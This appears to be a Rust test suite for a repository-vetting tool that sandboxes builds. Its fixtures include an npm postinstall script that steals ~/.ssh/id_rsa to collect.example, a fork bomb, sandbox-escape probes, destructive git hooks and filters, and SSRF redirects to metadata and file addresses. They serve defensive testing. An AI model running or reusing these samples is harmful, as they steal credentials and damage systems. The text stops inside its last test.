//! Reports on repositories, made of small ones that the tests write themselves.

use std::{
    io::{ErrorKind, Read, Write},
    net::{TcpListener, TcpStream},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    time::{Duration, Instant},
};

use serde_json::{Value, json};

use crate::support::{Home, put, until};

const MIT: &str = "MIT License\n\nCopyright (c) 2026 Nobody\n\nPermission is hereby granted, free of charge, to any person obtaining a copy of this software and associated documentation files, to deal in the Software without restriction.\n\nThe above copyright notice and this permission notice shall be included in all copies or substantial portions of the Software.\n";

/// A repository of the test's own.
struct Repository {
    path: PathBuf,
}

impl Repository {
    fn new(home: &Home, name: &str, files: &[(&str, &str)]) -> Self {
        let repository = Self { path: home.dir.path().join("repositories").join(name) };
        std::fs::create_dir_all(&repository.path).unwrap();
        repository.git(&["init", "--quiet", "--initial-branch=main"], 0, "a");
        for (path, text) in files {
            repository.file(path, text);
        }
        repository.commit(0, "ann@example.org");
        repository
    }

    fn file(&self, path: &str, text: impl AsRef<[u8]>) {
        let file = self.path.join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        put(&file, text);
    }

    fn commit(&self, day: i64, email: &str) {
        self.git(&["add", "--all"], day, email);
        self.git(&["commit", "--quiet", "--allow-empty", "--message=work"], day, email);
    }

    fn git(&self, arguments: &[&str], day: i64, email: &str) {
        let date = format!("@{} +0000", 1_790_000_000 + day * 86_400);
        let mut command = Command::new("git");
        command.current_dir(&self.path).args(["-c", "commit.gpgsign=false"]).args(arguments);
        command.env("GIT_CONFIG_GLOBAL", "/dev/null").env("GIT_CONFIG_NOSYSTEM", "1");
        for who in ["AUTHOR", "COMMITTER"] {
            command.env(format!("GIT_{who}_NAME"), "Test");
            command.env(format!("GIT_{who}_EMAIL"), email);
            command.env(format!("GIT_{who}_DATE"), &date);
        }
        let output = command.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    }
}

/// A crate with everything that a good one has.
fn good(home: &Home) -> Repository {
    let good = Repository::new(
        home,
        "good",
        &[
            ("Cargo.toml", "[package]\nname = \"good\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"),
            ("Cargo.lock", "version = 4\n\n[[package]]\nname = \"good\"\nversion = \"0.1.0\"\n"),
            (
                "src/lib.rs",
                "/// Two.\npub fn two() -> u32 {\n    2\n}\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn two_is_two() {\n        assert_eq!(super::two(), 2);\n    }\n}\n",
            ),
            ("fuzz/fuzz_targets/two.rs", "// libfuzzer\n"),
            ("LICENSE", MIT),
            ("README.md", "# Good\n\nIt says two.\n"),
            (
                "SECURITY.md",
                "# Security\n\nPlease write to security@example.org. We answer within three days.\n",
            ),
            (
                ".github/workflows/ci.yml",
                "on: push\njobs:\n  test:\n    steps:\n      - run: cargo test\n",
            ),
        ],
    );
    for day in 1..30 {
        good.commit(
            day,
            ["ann@example.org", "bob@example.org", "cleo@example.org"][day as usize % 3],
        );
    }
    // Long before the year that counts.
    good.git(&["tag", "--annotate", "--message=first", "v0.1.0"], 30, "ann@example.org");
    good
}

fn settings(home: &Home, oss: &str) {
    let folder = home.dir.path().join("config/notewell");
    std::fs::create_dir_all(&folder).unwrap();
    put(&folder.join("notewell.toml"), format!("[oss]\n{oss}"));
}

/// The program, with the toolchain that runs these tests: its home is another than theirs.
fn program(home: &Home, arguments: &[&str]) -> Command {
    let mut command = home.command(arguments);
    let sysroot = Command::new("rustc").args(["--print", "sysroot"]).output().unwrap();
    let sysroot = String::from_utf8(sysroot.stdout).unwrap();
    let path = std::env::var("PATH").unwrap_or_default();
    command.env("PATH", format!("{}/bin:{path}", sysroot.trim()));
    command
}

/// `notewell oss PATH --json`.
fn report(home: &Home, repository: &Repository) -> Value {
    let path = repository.path.to_str().unwrap();
    let output = program(home, &["oss", path, "--json"]).stdin(Stdio::null()).output().unwrap();
    let err = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{err}");
    nothing_left(home);
    serde_json::from_slice(&output.stdout).unwrap()
}

fn nothing_left(home: &Home) {
    let folder = home.data().join("oss");
    let left: Vec<_> = std::fs::read_dir(folder).into_iter().flatten().flatten().collect();
    assert!(left.is_empty(), "left behind: {left:?}");
}

fn check<'a>(report: &'a Value, name: &str) -> &'a Value {
    let checks = report["checks"].as_array().unwrap();
    checks.iter().find(|check| check["name"] == name).unwrap()
}

/// Whether there is a sandbox; a word where there is none.
fn sandbox() -> bool {
    match notewell::oss::sandbox_available() {
        Ok(()) => true,
        Err(why) => {
            eprintln!("skipped: {why}");
            false
        }
    }
}

/// Processes of this machine whose command line holds a word.
fn running(word: &str) -> usize {
    let entries = std::fs::read_dir("/proc").unwrap().flatten();
    let commands = entries.filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
    commands.filter(|command| String::from_utf8_lossy(command).contains(word)).count()
}

/// A word that no other process has.
fn marker(name: &str) -> String {
    format!("notewell-{name}-{}", std::process::id())
}

#[test]
fn a_good_crate_is_safe_and_scores_the_same_twice() {
    let home = Home::new();
    let good = good(&home);
    let first = report(&home, &good);
    assert_eq!(first["securityVerdict"], "SAFE", "{first:#}");
    assert_eq!((&first["repoName"], &first["license"]), (&json!("good"), &json!("MIT")));
    assert_eq!((&first["language"], &first["stars"]), (&json!("Rust"), &Value::Null));
    let keys: Vec<&String> = first.as_object().unwrap().keys().take(11).collect();
    assert_eq!(
        keys,
        [
            "repoUrl",
            "repoName",
            "stars",
            "license",
            "language",
            "securityScore",
            "securityVerdict",
            "buildResult",
            "testResult",
            "usageNotes",
            "verifiedAt",
        ]
    );
    assert_eq!(first["facts"]["commitsLastYear"], 30);
    assert_eq!(first["facts"]["contributorsLastYear"], 3);
    assert_eq!(first["facts"]["firstCommitAtLeast"], false);
    assert_eq!(first["facts"]["latestTag"], "v0.1.0");
    assert_eq!(first["commit"].as_str().unwrap().len(), 40);
    // What was not seen is said.
    assert_eq!(check(&first, "vulnerabilities")["score"], Value::Null);
    let unseen = first["usageNotes"].as_str().unwrap().split("does not know of").nth(1).unwrap();
    assert!(unseen.contains("vulnerabilities"), "{unseen}");
    if sandbox() {
        assert_eq!(first["buildResult"], "BUILD_SUCCESS", "{}", first["facts"]);
        assert_eq!(first["testResult"], "TEST_PASS", "{}", first["facts"]);
    }
    let second = report(&home, &good);
    assert_eq!(second["securityScore"], first["securityScore"]);
    assert_eq!(second["checks"], first["checks"]);
    let path = good.path.to_str().unwrap();
    let readable = program(&home, &["oss", path]).output().unwrap();
    let readable = String::from_utf8(readable.stdout).unwrap();
    for expected in ["SAFE", "MIT", "30 commits by 3 people", "10/10  secrets"] {
        assert!(readable.contains(expected), "{expected} is not in {readable}");
    }
}

#[test]
fn a_leaked_key_is_a_hard_stop() {
    let home = Home::new();
    settings(&home, "build = false\n");
    let leaky = good(&home);
    // In two halves, so that nobody takes this file for a leak.
    let key = ["AKIAQ3EGR", "7TZMKW5PLXB"].concat();
    leaky.file("config/prod.ini", format!("region = eu\n\nkey = {key}\n"));
    leaky.commit(31, "ann@example.org");
    let found = report(&home, &leaky);
    assert_eq!(found["securityVerdict"], "AVOID", "{found:#}");
    let evidence = &check(&found, "secrets")["evidence"][0];
    assert_eq!((&evidence["file"], &evidence["line"]), (&json!("config/prod.ini"), &json!(3)));
    assert!(found["usageNotes"].as_str().unwrap().contains("config/prod.ini:3"), "{found}");
    assert!(!found.to_string().contains(&key), "the report repeats the secret");
    assert_eq!(found["buildResult"], "BUILD_SKIPPED");
}

#[test]
fn a_malicious_postinstall_is_a_hard_stop_and_never_runs() {
    let home = Home::new();
    let canary = home.dir.path().join("canary");
    put(&canary, "alive");
    let package = "{\n  \"name\": \"left\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/setup.js\"\n  }\n}\n";
    let script = format!(
        "const fs = require('fs');\nfs.unlinkSync('{}');\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\nrequire('https').request('https://collect.example/').end(key);\n",
        canary.display()
    );
    let evil = Repository::new(
        &home,
        "left",
        &[("package.json", package), ("scripts/setup.js", &script), ("LICENSE", MIT)],
    );
    let found = report(&home, &evil);
    assert_eq!(found["securityVerdict"], "AVOID", "{found:#}");
    let evidence = &check(&found, "install-scripts")["evidence"][0];
    assert_eq!((&evidence["file"], &evidence["line"]), (&json!("scripts/setup.js"), &json!(3)));
    assert!(found["usageNotes"].as_str().unwrap().contains("looks like malware"), "{found}");
    assert_eq!(std::fs::read_to_string(canary).unwrap(), "alive");
}

#[test]
fn an_endless_build_is_stopped() {
    if !sandbox() {
        return;
    }
    let home = Home::new();
    settings(&home, "build_seconds = 2\n");
    let word = marker("endless");
    let endless = good(&home);
    std::fs::remove_file(endless.path.join("Cargo.toml")).unwrap();
    // In a session of its own, and deaf to polite signals.
    endless.file(
        "Makefile",
        format!("all:\n\ttrap '' TERM INT HUP; setsid sh -c 'while :; do sleep 1; done' {word} & while :; do sleep 1; : {word}; done\n"),
    );
    endless.commit(31, "ann@example.org");
    let found = report(&home, &endless);
    assert_eq!(found["buildResult"], "BUILD_FAILED", "{found:#}");
    assert_eq!(found["testResult"], "TEST_SKIPPED");
    assert_eq!(found["securityVerdict"], "CAUTION", "{}", found["usageNotes"]);
    assert!(found["usageNotes"].as_str().unwrap().contains("longer than 2 seconds"), "{found}");
    until("its processes are gone", || running(&word) == 0);
}

#[test]
fn a_fork_bomb_in_the_tests_is_held() {
    if !sandbox() {
        return;
    }
    const MOST: usize = 40;
    let home = Home::new();
    settings(&home, &format!("build_seconds = 4\nprocesses = {MOST}\n"));
    let word = marker("bomb");
    let bomb = Repository::new(
        &home,
        "bomb",
        &[
            ("Makefile", "all:\n\t@echo built\n\ntest:\n\tsh bomb.sh\n"),
            (
                "bomb.sh",
                &format!(
                    "b() {{ : {word}; sh -c 'while :; do sleep 1; done' {word} & b & b; }}\nb\n"
                ),
            ),
            ("LICENSE", MIT),
        ],
    );
    let done = Arc::new(AtomicBool::new(false));
    let peak = std::thread::spawn({
        let (done, word) = (done.clone(), word.clone());
        move || {
            let mut peak = 0;
            while !done.load(Ordering::Relaxed) {
                peak = peak.max(running(&word));
                std::thread::sleep(Duration::from_millis(10));
            }
            peak
        }
    });
    let found = report(&home, &bomb);
    done.store(true, Ordering::Relaxed);
    let peak = peak.join().unwrap();
    assert_eq!(found["buildResult"], "BUILD_SUCCESS", "{}", found["facts"]);
    assert_eq!(found["testResult"], "TEST_FAIL", "{}", found["facts"]);
    assert_ne!(found["securityVerdict"], "SAFE");
    // The sandbox's own first processes carry the script too.
    assert!((1..=MOST + 4).contains(&peak), "{peak} processes at once");
    until("its processes are gone", || running(&word) == 0);
}

#[test]
fn nothing_gets_out_of_the_sandbox() {
    if !sandbox() {
        return;
    }
    let home = Home::new();
    settings(&home, "disk_mb = 32\n");
    let canary = home.dir.path().join("canary");
    put(&canary, "alive");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (file, folder) = (canary.display(), home.dir.path().display());
    let reach = format!("bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}'");
    // Each line is something that must fail inside; outside the first two succeed.
    let attempts = [
        format!("cat {file}"),
        reach.clone(),
        format!("sh -c 'echo dead > {file}'"),
        format!("ls {folder}"),
        "sh -c 'ls -A /root /home/* | grep .'".into(),
        "touch /usr/touched".into(),
        "touch /etc/touched".into(),
        "touch /touched".into(),
        "touch /dev/touched".into(),
        "touch /src/touched".into(),
        "grep -q nobody-else-is-here /proc/1/environ".into(),
        "mount -t tmpfs none /usr".into(),
        "sh -c 'head -c 40000000 /dev/zero > /tmp/too-large'".into(),
        "sh -c 'head -c 40000000 /dev/zero > /dev/shm/too-large'".into(),
        format!("kill -0 {}", std::process::id()),
    ];
    let lines: String = attempts
        .iter()
        .map(|attempt| {
            let shown = attempt.replace('\'', "");
            // A full disk must not keep the next attempt from being told.
            format!("if {attempt}; then e='{shown}'; else e=; fi; rm -f /tmp/too-large /dev/shm/too-large; [ -z \"$e\" ] || echo \"$e\" >> escaped\n")
        })
        .collect();
    // Only what is refused counts as a success, and every attempt is made.
    let script = format!("{lines}if [ -e escaped ]; then cat escaped >&2; exit 1; fi\n");
    let prober = Repository::new(
        &home,
        "prober",
        &[("Makefile", "all:\n\tsh probe.sh\n"), ("probe.sh", &script), ("LICENSE", MIT)],
    );
    let found = report(&home, &prober);
    assert_eq!(found["buildResult"], "BUILD_SUCCESS", "{}", found["facts"]);
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "alive");
    listener.set_nonblocking(true).unwrap();
    let refused = listener.accept().map(drop).map_err(|error| error.kind());
    assert_eq!(refused, Err(ErrorKind::WouldBlock), "somebody came through the port");
    // The same attempts outside: the canary can be read and the port reached, so refusing means something.
    for attempt in &attempts[..2] {
        assert!(
            Command::new("sh")
                .args(["-c", attempt])
                .stdout(Stdio::null())
                .status()
                .unwrap()
                .success()
        );
    }
    listener.accept().unwrap();
}

#[test]
fn memory_is_bounded() {
    if !sandbox() {
        return;
    }
    let home = Home::new();
    // From a pipe, `tail` must keep it all.
    let hog = Repository::new(
        &home,
        "hog",
        &[("Makefile", "all:\n\thead -c 300000000 /dev/zero | tail -c 300000000 > /dev/null\n")],
    );
    for (memory, result) in [(100, "BUILD_FAILED"), (1000, "BUILD_SUCCESS")] {
        settings(&home, &format!("memory_mb = {memory}\n"));
        let found = report(&home, &hog);
        assert_eq!(found["buildResult"], result, "{}", found["facts"]);
    }
}

#[test]
fn a_build_sees_no_environment_of_ours() {
    if !sandbox() {
        return;
    }
    let home = Home::new();
    let spy = Repository::new(
        &home,
        "spy",
        &[(
            "Makefile",
            "all:\n\t! env | grep -i -e 'notewell' -e 'SECRET_OF_MINE'\n\ttest \"$$HOME\" = /tmp/home\n\ttest \"$$(id -u)\" != 0\n",
        )],
    );
    let path = spy.path.to_str().unwrap();
    let mut command = program(&home, &["oss", path, "--json"]);
    let output = command.env("SECRET_OF_MINE", "x").output().unwrap();
    let found: Value = serde_json::from_slice(&output.stdout).unwrap();
    // In a user namespace the account is ours, and its number may be anything.
    assert_eq!(found["buildResult"], "BUILD_SUCCESS", "{}", found["facts"]);
}

#[test]
fn dependencies_that_are_not_there_are_not_fetched() {
    let home = Home::new();
    let needy = Repository::new(
        &home,
        "needy",
        &[(
            "package.json",
            "{\"scripts\":{\"test\":\"true\"},\"dependencies\":{\"left-pad\":\"1\"}}",
        )],
    );
    let found = report(&home, &needy);
    assert_eq!(found["buildResult"], "BUILD_SKIPPED");
    let notes = found["usageNotes"].as_str().unwrap();
    assert!(notes.contains("would have to be downloaded"), "{notes}");
    assert!(notes.contains("it has no licence"), "{notes}");
    assert_eq!(check(&found, "locked-dependencies")["evidence"][0]["file"], "package.json");
}

#[test]
fn vulnerable_packages_are_found_in_a_dump() {
    let home = Home::new();
    let dump = home.dir.path().join("osv");
    std::fs::create_dir_all(&dump).unwrap();
    put(
        &dump.join("GHSA-test.json"),
        r#"{"id":"GHSA-test","affected":[{"package":{"ecosystem":"npm","name":"left-pad"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.3.1"}]}]}]}"#,
    );
    settings(&home, &format!("build = false\nosv = {:?}\n", dump.to_str().unwrap()));
    let old = Repository::new(
        &home,
        "old",
        &[
            ("package.json", "{\"dependencies\":{\"left-pad\":\"1.3.0\"}}"),
            (
                "package-lock.json",
                "{\"packages\":{\"node_modules/left-pad\":{\"version\":\"1.3.0\"}}}",
            ),
        ],
    );
    let found = report(&home, &old);
    let evidence = check(&found, "vulnerabilities")["evidence"][0].to_string();
    assert!(evidence.contains("GHSA-test") && evidence.contains("package-lock.json"), "{evidence}");
    let sources = found["sources"].to_string();
    assert!(sources.contains("OSV"), "{sources}");
}

#[test]
fn hooks_filters_links_and_submodules_do_nothing() {
    let home = Home::new();
    settings(&home, "build = false\n");
    let canary = home.dir.path().join("canary");
    put(&canary, "alive");
    let tricky = Repository::new(
        &home,
        "tricky",
        &[
            (".gitattributes", "* filter=evil\n"),
            (".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = file:///\n"),
            (".githooks/post-checkout", &format!("#!/bin/sh\nrm {}\n", canary.display())),
            ("LICENSE", MIT),
        ],
    );
    std::os::unix::fs::symlink(&canary, tricky.path.join("link.txt")).unwrap();
    std::os::unix::fs::symlink("/", tricky.path.join("everything")).unwrap();
    let hook = tricky.path.join(".git/hooks/post-checkout");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    put(&hook, format!("#!/bin/sh\nrm {}\n", canary.display()));
    tricky.git(&["config", "core.hooksPath", ".githooks"], 1, "a");
    let evil = format!("rm {}", canary.display());
    tricky.commit(1, "ann@example.org");
    tricky.git(&["config", "filter.evil.smudge", &evil], 1, "a");
    tricky.git(&["config", "uploadpack.packObjectsHook", &evil], 1, "a");
    let found = report(&home, &tricky);
    assert_eq!(found["facts"]["files"], 4, "{found:#}");
    assert_eq!(std::fs::read_to_string(canary).unwrap(), "alive");
}

/// A forge of the test's own, on loopback: `git http-backend` behind a few lines of HTTP.
struct Forge {
    port: u16,
    fetches: Arc<AtomicUsize>,
}

impl Forge {
    /// Serves the repositories of a home as `/o/NAME`, and whatever `special` answers itself.
    fn start(
        home: &Home,
        special: impl Fn(&str) -> Option<String> + Send + Sync + 'static,
    ) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let root = home.dir.path().join("repositories");
        std::fs::create_dir_all(&root).unwrap();
        let fetches = Arc::new(AtomicUsize::new(0));
        let counter = fetches.clone();
        let special = Arc::new(special);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (root, counter, special) = (root.clone(), counter.clone(), special.clone());
                std::thread::spawn(move || answer(stream, &root, &counter, &*special));
            }
        });
        Self { port, fetches }
    }

    fn url(&self, name: &str) -> String {
        format!("http://127.0.0.1:{}/o/{name}", self.port)
    }

    fn settings(&self, home: &Home, more: &str) {
        settings(home, &format!("trusted_hosts = [\"127.0.0.1:{}\"]\n{more}", self.port));
    }
}

fn answer(
    mut stream: TcpStream,
    root: &Path,
    fetches: &AtomicUsize,
    special: &dyn Fn(&str) -> Option<String>,
) {
    let mut bytes = Vec::new();
    let mut buffer = [0; 4096];
    let end = loop {
        let Ok(read @ 1..) = stream.read(&mut buffer) else { return };
        bytes.extend_from_slice(&buffer[..read]);
        if let Some(at) = bytes.windows(4).position(|window| window == b"\r\n\r\n") {
            break at + 4;
        }
    };
    let head = String::from_utf8_lossy(&bytes[..end]).into_owned();
    let header = |name: &str| {
        head.lines().find_map(|line| {
            let (key, value) = line.split_once(": ")?;
            key.eq_ignore_ascii_case(name).then(|| value.trim().to_owned())
        })
    };
    let mut words = head.split_whitespace();
    let (method, target) = (words.next().unwrap().to_owned(), words.next().unwrap().to_owned());
    if let Some(said) = special(&target) {
        drop(stream.write_all(said.as_bytes()));
        return;
    }
    let length = header("content-length").and_then(|length| length.parse().ok()).unwrap_or(0);
    let mut body = bytes[end..].to_vec();
    while body.len() < length {
        let Ok(read @ 1..) = stream.read(&mut buffer) else { return };
        body.extend_from_slice(&buffer[..read]);
    }
    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
    // `/o/NAME.git/…` is the folder NAME/.git.
    let path = path.trim_start_matches("/o/").replacen(".git/", "/.git/", 1);
    if method == "GET" {
        fetches.fetch_add(1, Ordering::Relaxed);
    }
    let mut command = Command::new("git");
    command.arg("http-backend").env("GIT_PROJECT_ROOT", root).env("GIT_HTTP_EXPORT_ALL", "1");
    command
        .env("REQUEST_METHOD", method)
        .env("QUERY_STRING", query)
        .env("PATH_INFO", format!("/{path}"));
    command
        .env("GIT_CONFIG_COUNT", "1")
        .env("GIT_CONFIG_KEY_0", "safe.directory")
        .env("GIT_CONFIG_VALUE_0", "*");
    for (name, variable) in [
        ("content-type", "CONTENT_TYPE"),
        ("content-encoding", "HTTP_CONTENT_ENCODING"),
        ("git-protocol", "GIT_PROTOCOL"),
    ] {
        if let Some(value) = header(name) {
            command.env(variable, value);
        }
    }
    command.env("CONTENT_LENGTH", body.len().to_string());
    let mut child =
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    drop(child.stdin.take().unwrap().write_all(&body));
    let mut said = Vec::new();
    child.stdout.take().unwrap().read_to_end(&mut said).unwrap();
    child.wait().unwrap();
    let text = String::from_utf8_lossy(&said);
    let status =
        text.lines().find_map(|line| line.strip_prefix("Status: ")).unwrap_or("200 OK").to_owned();
    drop(stream.write_all(format!("HTTP/1.1 {status}\r\nConnection: close\r\n").as_bytes()));
    drop(stream.write_all(&said));
}

fn redirect(to: &str) -> Option<String> {
    Some(format!(
        "HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    ))
}

#[test]
fn an_agent_asks_for_a_report() {
    let home = Home::new();
    good(&home);
    let forge = Forge::start(&home, |target| match target {
        target if target.starts_with("/o/renamed.git/") => {
            redirect("/o/good.git/info/refs?service=git-upload-pack")
        }
        target if target.starts_with("/api/repos/o/good") => {
            let body = r#"{"stargazers_count":1250,"description":"says two","archived":false}"#;
            Some(format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            ))
        }
        _ => None,
    });
    let api = format!(
        "api = {{ \"127.0.0.1\" = \"http://127.0.0.1:{}/api\" }}\nbuild = false\n",
        forge.port
    );
    forge.settings(&home, &api);
    let mut client = home.stdio();
    client.initialize();
    let url = forge.url("good");
    let missing = client.call("oss_report", json!({ "repo_url": url }));
    assert_eq!(missing["isError"], json!(false), "{missing}");
    assert_eq!(missing["structuredContent"]["status"], "missing");
    assert!(
        missing["structuredContent"]["message"].as_str().unwrap().contains("verify_if_missing")
    );
    assert_eq!(forge.fetches.load(Ordering::Relaxed), 0, "nothing was asked for");

    let found = client.ask(
        "tools/call",
        json!({ "name": "oss_report", "arguments": { "repo_url": url, "verify_if_missing": true }, "_meta": { "progressToken": "p" } }),
    );
    let found = &found["result"]["structuredContent"];
    assert_eq!(found["status"], "verified", "{found:#}");
    assert_eq!((&found["repoUrl"], &found["stars"]), (&json!(url), &json!(1250)));
    assert_eq!(found["facts"]["commitsLastYear"], 30, "a shallow clone counts the year");
    let steps: Vec<f64> =
        client.notices.iter().filter_map(|notice| notice["params"]["progress"].as_f64()).collect();
    assert!(!steps.is_empty() && steps.is_sorted(), "{:?}", client.notices);

    let fetched = forge.fetches.load(Ordering::Relaxed);
    let again = client.call("oss_report", json!({ "repo_url": format!("{url}.git/") }));
    assert_eq!(again["structuredContent"]["securityScore"], found["securityScore"]);
    let text: Value = serde_json::from_str(again["content"][0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(text["commit"], found["commit"]);
    assert_eq!(
        forge.fetches.load(Ordering::Relaxed),
        fetched,
        "the stored report was fetched again"
    );

    let renamed = client
        .call("oss_report", json!({ "repo_url": forge.url("renamed"), "verify_if_missing": true }));
    assert_eq!(renamed["structuredContent"]["commit"], found["commit"], "{renamed:#}");
    nothing_left(&home);
}

#[test]
fn whoever_is_impatient_asks_again() {
    let home = Home::new();
    good(&home);
    let forge = Forge::start(&home, |_| {
        std::thread::sleep(Duration::from_millis(100));
        None
    });
    forge.settings(&home, "wait_seconds = 0\nbuild = false\nqueue = 1\n");
    let mut client = home.stdio();
    client.initialize();
    let ask = json!({ "repo_url": forge.url("good"), "verify_if_missing": true });
    let first = client.call("oss_report", ask.clone());
    assert_eq!(first["structuredContent"]["status"], "verifying", "{first}");
    assert_eq!(first["structuredContent"]["repoName"], "good");
    // The same repository again is the same verification; another waits; a third is too many.
    client.call("oss_report", ask.clone());
    let refused = |client: &mut crate::support::Client, name: &str| {
        client.ask("tools/call", json!({ "name": "oss_report", "arguments": { "repo_url": forge.url(name), "verify_if_missing": true } }))
    };
    let waits = refused(&mut client, "absent");
    assert_eq!(waits["result"]["structuredContent"]["status"], "verifying", "{waits}");
    let full = refused(&mut client, "third");
    assert!(
        full["error"]["message"].as_str().is_some_and(|text| text.contains("[oss] queue")),
        "{full}"
    );
    until("the report is there", || {
        let found = client.call("oss_report", json!({ "repo_url": forge.url("good") }));
        found["structuredContent"]["status"] == "verified"
    });
    until("the failure is told", || {
        let found = client.call("oss_report", json!({ "repo_url": forge.url("absent") }));
        let message = found["structuredContent"]["message"].as_str().unwrap_or_default().to_owned();
        message.contains("the last attempt failed")
    });
}

#[test]
fn what_cannot_be_fetched_is_told_and_leaves_nothing() {
    let home = Home::new();
    let large = Repository::new(&home, "large", &[]);
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut random = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state as u8
    };
    let noise: Vec<u8> = (0..3_000_000).map(|_| random()).collect();
    large.file("noise.bin", noise);
    large.commit(1, "ann@example.org");
    let bomb = Repository::new(&home, "expands", &[]);
    bomb.file("zeros.bin", vec![0; 12_000_000]);
    bomb.commit(1, "ann@example.org");
    std::fs::create_dir_all(home.dir.path().join("repositories/empty")).unwrap();
    let empty = Repository { path: home.dir.path().join("repositories/empty") };
    empty.git(&["init", "--quiet"], 0, "a");
    // A port that must stay untouched.
    let secret = TcpListener::bind("127.0.0.1:0").unwrap();
    let private = secret.local_addr().unwrap();
    let forge = Forge::start(&home, move |target| match target.split('/').nth(2)? {
        "evil.git" => redirect(&format!("http://{private}/o/good.git/info/refs")),
        "evil2.git" => redirect("https://169.254.169.254/o/good.git/info/refs"),
        "evil3.git" => redirect("file:///etc/passwd"),
        "loop.git" => redirect("/o/loop.git/info/refs"),
        "garbage.git" => {
            Some("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello".into())
        }
        "broken.git" => {
            Some("HTTP/1.1 500 Oops\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".into())
        }
        "silent.git" => {
            std::thread::sleep(Duration::from_secs(30));
            Some(String::new())
        }
        _ => None,
    });
    forge.settings(&home, "clone_mb = 2\nclone_seconds = 3\nbuild = false\n");
    let mut client = home.stdio();
    client.initialize();
    for (name, why) in [
        ("absent", "no public repository"),
        ("large", "clone_mb"),
        ("expands", "clone_mb"),
        ("empty", "no commits"),
        ("evil", "redirects to a place that is not asked"),
        ("evil2", "private address"),
        ("evil3", "redirects to a place that is not asked"),
        ("loop", "redirects more than"),
        ("garbage", "git could not fetch"),
        ("broken", "answered 500"),
        ("silent", "could not reach"),
    ] {
        let begun = Instant::now();
        let found = client
            .call("oss_report", json!({ "repo_url": forge.url(name), "verify_if_missing": true }));
        assert_eq!(found["isError"], true, "{name}: {found}");
        let text = found["content"][0]["text"].as_str().unwrap();
        assert!(text.contains(why), "{name}: {text}");
        assert!(begun.elapsed() < Duration::from_secs(25), "{name} held the caller");
        let after = client.call("oss_report", json!({ "repo_url": forge.url(name) }));
        assert_eq!(after["structuredContent"]["status"], "missing", "{name} left a report");
        nothing_left(&home);
    }
    secret.set_nonblocking(true).unwrap();
    assert!(secret.accept().is_err(), "a redirect was followed to a private port");
}

#[test]
fn bad_addresses_are_refused() {
    let home = Home::new();
    let mut client = home.stdio();
    client.initialize();
    let local = home.dir.path().to_str().unwrap().to_owned();
    for (url, why) in [
        ("", "is empty"),
        ("a tool", "is not a URL"),
        ("http://github.com/a/b", "is not an https address"),
        ("ssh://git@github.com/a/b", "no user name or password"),
        ("git@github.com:a/b.git", "is not a URL"),
        ("https://me:hunter2@github.com/a/b", "no user name or password"),
        ("https://10.0.0.1/a/b", "private address"),
        ("https://[::1]/a/b", "private address"),
        ("https://localhost/a/b", "private address"),
        ("https://example.org/a/b", "not among the allowed hosts"),
        ("https://github.com/a", "names no repository"),
        ("file:///etc", "is not an https address"),
        (local.as_str(), "is not a URL"),
    ] {
        for verify in [false, true] {
            let error = client
                .refused("oss_report", json!({ "repo_url": url, "verify_if_missing": verify }));
            assert_eq!(error["code"], -32602, "{url}: {error}");
            let message = error["message"].as_str().unwrap();
            assert!(message.contains(why) && !message.contains("hunter2"), "{url}: {message}");
        }
    }
    let (ok, _, err) = home.run(&["oss", "/no/such/place"]);
    assert!(!ok && err.contains("no repository at"), "{err}");
    let (ok, _, err) = home.run(&["oss", &local]);
    assert!(!ok && err.contains("git could not fetch"), "{err}");
    nothing_left(&home);
}

#[test]
fn readers_and_strangers_have_no_reports() {
    let home = Home::new();
    let reader = home.token("reader");
    let server = home.serve();
    let call = br#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"oss_report","arguments":{"repo_url":"https://github.com/a/b"}}}"#;
    let bearer = format!("Bearer {reader}");
    for headers in [vec![], vec![("Authorization", bearer.as_str())]] {
        let answer = server.send("POST", "/_system/mcp", &headers, call).json();
        assert_eq!(answer["error"]["code"], -32601, "{answer}");
    }
}

#[test]
fn a_process_that_ends_takes_its_verifications_along() {
    if !sandbox() {
        return;
    }
    let home = Home::new();
    let word = marker("left");
    Repository::new(
        &home,
        "endless",
        &[("Makefile", &format!("all:\n\twhile :; do sleep 1; : {word}; done\n"))],
    );
    let forge = Forge::start(&home, |_| None);
    forge.settings(&home, "wait_seconds = 0\nbuild_seconds = 600\n");
    let mut client = home.stdio();
    client.initialize();
    client
        .call("oss_report", json!({ "repo_url": forge.url("endless"), "verify_if_missing": true }));
    until("the build runs", || running(&word) > 0);
    let (_, ok) = client.finish();
    assert!(ok, "the process ended badly");
    until("the build is gone", || running(&word) == 0);
    nothing_left(&home);
}

#[test]
fn a_saved_link_knows_its_report() {
    use notewell::{
        app, config::Config, domain::Timestamp, oss::Verdict, store::reports::StoredReport,
    };
    let home = Home::new();
